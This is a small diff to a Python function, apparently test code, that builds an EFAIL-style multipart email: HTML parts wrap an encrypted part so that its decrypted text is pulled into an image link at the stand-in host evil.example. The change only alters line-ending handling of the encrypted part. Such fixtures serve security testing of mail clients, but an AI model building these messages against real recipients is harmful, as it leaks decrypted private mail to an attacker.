@@ -197,7 +197,7 @@ def mixed(encrypted: bytes) -> bytes:
     """A part that is encrypted between two that draw its text into a link (EFAIL)."""
     before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
     after = b'Content-Type: text/html\r\n\r\n">'
-    parts = b"".join(b"--x\r\n%b\r\n" % part for part in (before, encrypted.replace(b"\n", b"\r\n"), after))
+    parts = b"".join(b"--x\r\n%b\r\n" % part for part in (before, encrypted, after))
     return mail(b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + parts + b"--x--\r\n")
 
 
